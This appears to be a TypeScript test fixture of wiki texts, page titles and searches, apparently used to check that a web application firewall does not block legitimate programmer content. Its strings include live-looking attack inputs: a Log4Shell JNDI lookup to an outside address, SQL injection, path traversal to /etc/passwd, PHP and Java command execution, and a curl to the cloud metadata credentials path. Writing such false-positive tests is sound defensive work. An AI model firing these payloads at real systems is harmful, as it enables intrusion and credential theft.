/** What people write about, read about and search for on a wiki of programmers. Each would be an attack elsewhere. */
export const texts: Readonly<Record<string, string>> = {
  'HTML and a link':
    '<div class="box" onclick="x()"><a href="http://192.0.2.7/a">a</a></div> [https://192.0.2.8/b b]',
  'a script':
    '<syntaxhighlight lang="html"><script>alert("hello")</script></syntaxhighlight> javascript:void(0)',
  SQL: "<pre>SELECT name FROM users WHERE name = '' OR '1'='1' -- ;\nDROP TABLE students; UNION ALL SELECT 1</pre>",
  PHP: '<?php $page = $_GET["page"]; $s = fsockopen("localhost", 80); include $page . ".ini"; shell_exec($s);',
  Java: '(java.lang.Runtime).getRuntime().exec("whoami") // rO0ABXNyABFqYXZh',
  'Log4Shell explained':
    'Attackers send <code>${jndi:ldap://192.0.2.1/a}</code> or <code>${${lower:j}ndi:rmi}</code>.',
  'React explained':
    '{"then":"$1:__proto__:then","status":"resolved_model","x":"$1:constructor:constructor"}',
  'paths of a server':
    'See ../../../etc/passwd, C:\\Windows\\Win.ini, /var/log/nginx/error.log and .htaccess; php://input',
  'the address of instance metadata': 'curl http://169.254.169.254/latest/meta-data/iam/',
  templates: '{{Infobox|name={{PAGENAME}}|image=File:A.svg}}{{#if:{{{1|}}}|[[Category:A]]|~~~~}}',
  Hebrew: 'שלום עולם; זהו ערך ארוך בעברית "עם מרכאות" ו־[[קישורים|קישור]].',
};

const paragraph = Object.values(texts).join('\n\n');

/** Longer than WAF looks at, with everything within and beyond what it sees. */
export const longText = Array.from({ length: 60 }, (_, index) => `== ${index} ==\n${paragraph}`)
  .join('\n')
  .slice(0, 60_000);

/** Titles that MediaWiki takes. */
export const titles = [
  'Main Page',
  'שלום עולם',
  'العربية/أرشيف 1',
  'Обсуждение участника:Пример',
  'א'.repeat(127),
  'Win.ini',
  'Error.log',
  'Select * from',
  'Union select a from b',
  "Robert'); DROP TABLE students;--",
  "O'Brien or 1=1",
  'Etc/passwd',
  '...And Justice for All',
  'WEB-INF',
  '.htaccess',
  '.env',
  'Fsockopen',
  '$_GET',
  'Php://input',
  'Java.lang.Runtime',
  'ProcessBuilder',
  'Object.prototype. proto ',
  'JavaScript: The Good Parts',
  'Onload = x',
  '169.254.169.254',
  'User talk:192.0.2.1',
  'Special:LinkSearch/http://192.0.2.1',
  'Special:Search/Load file(x)',
  'A&B=C+D? 100% "q" \\',
] as const;

/** What people type into the search box, titles apart. */
export const searches = [
  '${jndi:ldap://example.com/a}',
  '../etc/passwd',
  '<script>alert("hello")</script>',
  "' or '1'='1",
  '(java.lang.Runtime).getRuntime().exec("whoami")',
  'http://169.254.169.254/latest/meta-data/',
  'intitle:"php.ini" $_GET',
] as const;
